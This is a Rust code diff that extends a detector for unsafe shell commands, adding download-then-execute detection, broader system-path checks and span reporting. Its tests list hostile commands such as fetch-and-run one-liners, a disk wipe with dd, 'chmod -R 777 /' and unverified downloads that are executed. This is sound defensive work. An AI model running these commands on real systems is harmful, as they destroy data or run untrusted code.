@@ -5,7 +5,7 @@
 
 use regex::Captures;
 
-use super::pattern::lazy_regex;
+use super::pattern::{Spans, lazy_regex, matches};
 
 lazy_regex!(
     PIPE_TO_SHELL,
@@ -13,7 +13,7 @@ lazy_regex!(
 );
 lazy_regex!(
     SHELL_OF_DOWNLOAD,
-    r#"(?i)(?:\b(?:ba|z|k|da)?sh|\bsource|(?:^|[\s;&|])\.)\s+<\(\s*(?:curl|wget)\b|\b(?:(?:ba|z|k|da)?sh\s+-c|eval)\s+["']?\$\(\s*(?:curl|wget)\b"#
+    r#"(?i)(?:\b(?:ba|z|k|da)?sh|\bsource|(?:^|[\s;&|])\.)\s+<\(\s*(?:curl|wget)\b|\b(?:(?:ba|z|k|da)?sh\s+-c|eval|(?:python[0-9.]*|perl|ruby|node|php)\s+-[ce])\s+["']?\$\(\s*(?:curl|wget)\b"#
 );
 lazy_regex!(
     POWERSHELL_ENCODED,
@@ -120,7 +120,23 @@ fn dangerous_target(arg: &str) -> bool {
             [dir] => SYSTEM_DIRS.contains(dir),
             // One level below the homes is a home, whatever names it:
             // `alice`, `$USER`, `${USER}`, `$(whoami)`.
-            ["home" | "users", _] | ["var", "home"] | ["var", "home", _] => true,
+            // A home, or the system's own programs and libraries.
+            ["home" | "users", _]
+            | ["var", "home" | "lib"]
+            | ["var", "home", _]
+            | ["system", "library"] => true,
+            ["usr", sub] => matches!(
+                *sub,
+                "bin"
+                    | "sbin"
+                    | "lib"
+                    | "lib32"
+                    | "lib64"
+                    | "libexec"
+                    | "share"
+                    | "include"
+                    | "local"
+            ),
             // A Windows drive, its profiles or one profile, from WSL or Cygwin.
             ["mnt" | "cygdrive", drive, rest @ ..] if is_drive_letter(drive) => {
                 matches!(rest, [] | ["users"] | ["users", _])
@@ -208,25 +224,184 @@ fn permissions_are_dangerous(args: &str) -> bool {
     recursive && operands.iter().skip(1).any(|a| dangerous_target(a))
 }
 
-pub(super) fn unsafe_command(text: &str) -> bool {
-    PIPE_TO_SHELL.is_match(text)
-        || SHELL_OF_DOWNLOAD.is_match(text)
-        || POWERSHELL_ENCODED.is_match(text)
-        || DOWNLOAD_EXPRESSION.is_match(text)
-        || DISK_WIPE.is_match(text)
-        || FORK_BOMB.is_match(text)
-        || DELETE
-            .captures_iter(text)
-            .any(|c: Captures<'_>| delete_is_dangerous(&c[1], &c[2]))
-        || DELETE_PIPELINE.captures_iter(text).any(|c| {
-            dangerous_target(&c[1])
-                && c[2]
-                    .split_whitespace()
-                    .any(|a| a.len() >= 2 && "-recurse".starts_with(&a.to_ascii_lowercase()))
+lazy_regex!(
+    /// A download saved to a file: curl's `-o FILE`/`--output FILE` or
+    /// `-O` (the URL's name), wget's `-O FILE` or the URL's name,
+    /// PowerShell's `-OutFile`, `DownloadFile(url, file)`, certutil.
+    DOWNLOAD,
+    r"(?i)\b(?:curl(?:\.exe)?|wget|fetch|aria2c|iwr|invoke-webrequest|start-bitstransfer|certutil(?:\.exe)?|downloadfile)\b[^\n;&|]*"
+);
+lazy_regex!(
+    /// A file handed to a shell or interpreter, or run directly.
+    EXECUTE,
+    r#"(?i)(?:^|[\s;&|(])(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|k|da|fi|c|tc)?sh|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell(?:\.exe)?|start-process|cmd(?:\.exe)?\s+/c)(?:\s+-\S+(?:\s+(?:bypass|unrestricted))?)*\s+["']?([^\s"';&|)]+)|(?:^|[\s;&|(])(\.{1,2}[/\\][^\s"';&|)]+|/(?:tmp|var/tmp|opt|usr/local/bin|dev/shm)/[^\s"';&|)]+|(?:%[A-Za-z_]+%|\$env:[A-Za-z_]+|\$\{?[A-Za-z_]+\}?)[/\\][^\s"';&|)]+)|(?:^|[\s;(])&\s+["']?([^\s"';&|)]+)|(?:^|[;&|]\s*)(?:sudo\s+(?:-\S+\s+)*)?([A-Za-z0-9_][A-Za-z0-9_.-]*)(?:\s|$)"#
+);
+lazy_regex!(
+    /// A checksum or signature check, which makes a download reviewed.
+    VERIFIED,
+    r"(?i)\b(?:sha(?:1|224|256|384|512)?sum|shasum|b2sum|md5sum|gpg\s+(?:--batch\s+)?--verify|gpgv|cosign\s+verify|minisign\s+-v|signify\s+-v|get-filehash|openssl\s+dgst|slsa-verifier|certutil\s+-hashfile)\b"
+);
+lazy_regex!(
+    UNPACK,
+    r"^\s*\|\s*(?:sudo\s+)?(?:tar|bsdtar|unzip|busybox\s+tar)\b"
+);
+lazy_regex!(
+    URL_NAME,
+    r#"(?i)\b(?:https?|ftp)://[^\s"'<>]*/([^/\s"'<>?#]+)"#
+);
+lazy_regex!(
+    OUTPUT_FLAG,
+    r#"(?i)(?:\s>\s*|\s-[A-Za-z]*o\s*|\s--output(?:=|\s+)|\s-outfile\s+|\s-destination\s+|\s-qO\s*|\s--output-document(?:=|\s+)|\s-O\s+|,\s*)["']?([^\s"',)]+)"#
+);
+
+/// The names a download is saved under: its output operand, else (for the
+/// tools that save by default, or curl asked to with `-O`) the last
+/// segment of its URL. curl without either writes to standard output,
+/// which saves nothing.
+fn saved_names(download: &str) -> Vec<String> {
+    let tool = download
+        .split_whitespace()
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    let mut names: Vec<String> = OUTPUT_FLAG
+        .captures_iter(download)
+        .map(|c| c[1].to_owned())
+        .filter(|n| n != "-" && !n.contains("://"))
+        .collect();
+    let to_stdout =
+        download.contains(" -O -") || download.contains("O- ") || download.ends_with("O-");
+    let remote_name = if tool.starts_with("curl") {
+        download.split_whitespace().any(|w| {
+            w == "--remote-name"
+                || w == "--remote-name-all"
+                || (w.starts_with('-') && !w.starts_with("--") && w.contains('O'))
         })
-        || PERMISSIONS
+    } else {
+        !to_stdout
+    };
+    if remote_name {
+        names.extend(URL_NAME.captures_iter(download).map(|c| c[1].to_owned()));
+    }
+    if tool.starts_with("certutil") {
+        names.extend(download.split_whitespace().last().map(str::to_owned));
+    }
+    names
+        .into_iter()
+        .map(|n| base_name(&n).to_owned())
+        .filter(|n| n.len() > 1 && !n.starts_with('-'))
+        .collect()
+}
+
+fn base_name(path: &str) -> &str {
+    path.trim_matches(['"', '\''])
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(path)
+}
+
+/// An archive's name without its extension: the directory it usually
+/// unpacks into.
+fn archive_stem(name: &str) -> Option<&str> {
+    [
+        ".tar.gz", ".tgz", ".tar.xz", ".txz", ".tar.bz2", ".tar.zst", ".zip", ".tar",
+    ]
+    .iter()
+    .find_map(|ext| name.strip_suffix(ext))
+    .filter(|stem| !stem.is_empty())
+}
+
+/// Whether running `target` runs what was saved as one of `names`: the
+/// file itself, or a file inside the directory an archive unpacked into.
+fn runs_download(names: &[String], target: &str) -> bool {
+    let target = target.trim_matches(['"', '\'']);
+    let base = base_name(target);
+    let path: Vec<&str> = target
+        .split(['/', '\\'])
+        .filter(|s| !s.is_empty() && *s != ".")
+        .collect();
+    names.iter().any(|n| {
+        n == base || archive_stem(n).is_some_and(|stem| path.len() > 1 && path[0].starts_with(stem))
+    })
+}
+
+/// A download saved to a file, then the file run, with no checksum or
+/// signature check between.
+fn download_then_execute(text: &str) -> Spans {
+    let mut out = Vec::new();
+    for download in DOWNLOAD.find_iter(text) {
+        let mut names = saved_names(download.as_str());
+        // Piped into tar: the archive unpacks into the directory its name
+        // says.
+        if UNPACK.is_match(&text[download.end()..]) {
+            names.extend(
+                URL_NAME
+                    .captures_iter(download.as_str())
+                    .map(|c| c[1].to_owned()),
+            );
+        }
+        if names.is_empty() {
+            continue;
+        }
+        let rest = &text[download.end()..];
+        let mut at = 0;
+        while let Some(run) = EXECUTE.captures_at(rest, at) {
+            at = run.get(0).map_or(rest.len(), |m| m.start() + 1);
+            while !rest.is_char_boundary(at) {
+                at += 1;
+            }
+            let Some(target) = run.iter().skip(1).flatten().next() else {
+                continue;
+            };
+            let between = &rest[..run.get(0).map_or(0, |m| m.start())];
+            if VERIFIED.is_match(between) {
+                break;
+            }
+            if runs_download(&names, target.as_str()) {
+                out.push(download.start()..download.end() + target.end());
+                break;
+            }
+        }
+    }
+    out
+}
+
+pub(super) fn unsafe_command(text: &str) -> Spans {
+    let mut out = matches(&PIPE_TO_SHELL, text);
+    for re in [
+        &*SHELL_OF_DOWNLOAD,
+        &*POWERSHELL_ENCODED,
+        &*DOWNLOAD_EXPRESSION,
+        &*DISK_WIPE,
+        &*FORK_BOMB,
+    ] {
+        out.extend(matches(re, text));
+    }
+    out.extend(
+        DELETE
             .captures_iter(text)
-            .any(|c| permissions_are_dangerous(&c[2]))
+            .filter(|c: &Captures<'_>| delete_is_dangerous(&c[1], &c[2]))
+            .filter_map(|c| c.get(0).map(|m| m.range())),
+    );
+    out.extend(
+        DELETE_PIPELINE
+            .captures_iter(text)
+            .filter(|c| {
+                dangerous_target(&c[1])
+                    && c[2]
+                        .split_whitespace()
+                        .any(|a| a.len() >= 2 && "-recurse".starts_with(&a.to_ascii_lowercase()))
+            })
+            .filter_map(|c| c.get(0).map(|m| m.range())),
+    );
+    out.extend(
+        PERMISSIONS
+            .captures_iter(text)
+            .filter(|c| permissions_are_dangerous(&c[2]))
+            .filter_map(|c| c.get(0).map(|m| m.range())),
+    );
+    out.extend(download_then_execute(text));
+    out
 }
 
 #[cfg(test)]
@@ -250,6 +425,10 @@ mod tests {
             "iex (iwr https://x.example/i.ps1)",
             "dd if=/dev/zero of=/dev/sda bs=1M",
             "chmod -R 777 /",
+            "curl -fsSL -o install.sh https://get.example.sh && bash install.sh",
+            "wget https://x.example/setup-agent; chmod +x setup-agent; ./setup-agent",
+            "curl -LO https://x.example/tool.sh && sudo sh ./tool.sh --yes",
+            "Invoke-WebRequest https://x.example/i.ps1 -OutFile i.ps1; & .\\i.ps1",
         ] {
             assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
         }
@@ -261,6 +440,9 @@ mod tests {
             "curl -s https://api.example.com/v1/items | python3 -m json.tool",
             "curl -fsSL https://x.example/sum | sha256sum -c",
             "powershell -ExecutionPolicy Bypass -File build.ps1",
+            "curl -fsSL -o install.sh https://get.example.sh && sha256sum -c install.sh.sha256 && bash install.sh",
+            "curl -o data.json https://x.example/data.json && python3 process.py data.json",
+            "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz",
         ] {
             assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
         }
